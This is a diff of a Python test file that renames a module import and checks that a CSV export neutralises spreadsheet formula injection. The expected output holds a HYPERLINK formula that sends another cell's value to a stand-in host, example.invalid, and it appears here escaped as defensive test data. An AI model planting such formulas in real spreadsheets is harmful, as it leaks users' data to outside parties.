@@ -83,14 +83,14 @@ def test_safe_frame_keeps_numeric_columns():
 
 
 def test_municipal_panel_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
-    from helpers.loaders import panel
+    from helpers.reporting import panel_export
 
     wide = pd.DataFrame({"entity": [ATTACK], "ai": [1.0]})
-    monkeypatch.setattr(panel, "wide_panel", lambda long: wide)
-    monkeypatch.setattr(panel, "dictionary_markdown", lambda long, lang="en": "x\n")
-    monkeypatch.setattr(panel, "with_finance", lambda frame: frame)  # the finance merges are pinned elsewhere
-    monkeypatch.setattr(panel, "with_finance_long", lambda frame: frame)
+    monkeypatch.setattr(panel_export, "wide_panel", lambda long: wide)
+    monkeypatch.setattr(panel_export, "dictionary_markdown", lambda long, lang="en": "x\n")
+    monkeypatch.setattr(panel_export, "with_finance", lambda frame: frame)  # the finance merges are pinned elsewhere
+    monkeypatch.setattr(panel_export, "with_finance_long", lambda frame: frame)
     long = pd.DataFrame({"a": [1]})
-    paths = panel.export_panel(tmp_path, long, lang="en")
+    paths = panel_export.export_panel(tmp_path, long, lang="en")
     text = paths["csv"].read_text(encoding="utf-8-sig")
     assert text.splitlines()[1] == "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3,\"\"click\"\")\",1.0"
